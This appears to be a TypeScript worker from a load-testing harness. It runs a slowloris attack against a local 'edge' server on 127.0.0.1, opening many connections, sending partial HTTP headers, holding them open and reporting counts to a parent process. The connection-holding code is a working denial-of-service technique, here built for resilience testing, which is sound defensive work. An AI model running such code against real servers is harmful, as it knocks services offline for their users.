// One process of the slowloris attacker (forked by slowloris.ts, several when one process may not
// open enough files): opens `count` connections to the edge from 127.0.0.1, sends half a request
// head on each and holds it. Like a real slowloris it opens a new one for each that fails or that
// the edge closes, until `count` are open or it has tried `count` * ATTEMPTS_FACTOR times. Reports
// its counts every half second; on 'release' (or when the parent goes away) it closes everything
// and exits.
import net from 'node:net';
import { pathToFileURL } from 'node:url';

export interface LorisCounts {
  attempted: number;
  connected: number;
  /** Connected and still open. */
  open: number;
  /** Connected, then closed by the edge. */
  closedByServer: number;
  /** Never connected: failures by error code. */
  failed: Record<string, number>;
  /** `count` open, or every attempt made and settled. */
  done: boolean;
}

/** Connection attempts in flight at once. */
const CONCURRENCY = 500;
const CONNECT_TIMEOUT_MS = 5000;
/** Attempts allowed per wanted connection (bounded: ports closed by the edge wait in TIME_WAIT). */
const ATTEMPTS_FACTOR = 1.25;

function main(port: number, count: number): void {
  const counts: LorisCounts = { attempted: 0, connected: 0, open: 0, closedByServer: 0, failed: {}, done: false };
  const sockets = new Set<net.Socket>();
  let pending = 0;
  let releasing = false;
  // A real-looking head, cut off in the middle of a header line.
  const head = `POST /app/v1/refreshData HTTP/1.1\r\nHost: 127.0.0.1:${port}\r\nContent-Type: application/json\r\nX-Slow: `;

  const attempts = Math.ceil(count * ATTEMPTS_FACTOR);
  const pump = () => {
    if (counts.done) return;
    while (!releasing && pending < CONCURRENCY && counts.open + pending < count && counts.attempted < attempts) openOne();
    counts.done = counts.open >= count || (pending === 0 && counts.attempted >= attempts);
  };

  function openOne(): void {
    counts.attempted++;
    pending++;
    let connected = false;
    let failure = 'closed';
    const socket = net.connect({ host: '127.0.0.1', port });
    sockets.add(socket);
    const timer = setTimeout(() => {
      failure = 'connect timeout';
      socket.destroy();
    }, CONNECT_TIMEOUT_MS);
    socket.once('connect', () => {
      clearTimeout(timer);
      connected = true;
      pending--;
      counts.connected++;
      counts.open++;
      socket.write(head);
      pump();
    });
    socket.resume();
    socket.on('error', (error: NodeJS.ErrnoException) => {
      if (!connected) failure = error.code ?? error.message;
    });
    socket.once('close', () => {
      clearTimeout(timer);
      sockets.delete(socket);
      if (connected) {
        counts.open--;
        if (!releasing) counts.closedByServer++;
      } else {
        pending--;
        counts.failed[failure] = (counts.failed[failure] ?? 0) + 1;
      }
      pump();
    });
  }

  const report = () => process.send?.(counts);
  const timer = setInterval(report, 500);
  process.on('message', (message) => {
    if (message !== 'release') return;
    releasing = true;
    clearInterval(timer);
    for (const socket of sockets) socket.destroy();
    process.send?.(counts, () => process.exit(0));
  });
  process.on('disconnect', () => process.exit(0));
  setTimeout(() => process.exit(0), 5 * 60_000).unref();
  pump();
}

if (import.meta.url === pathToFileURL(process.argv[1] ?? '').href) main(Number(process.argv[2]), Number(process.argv[3]));
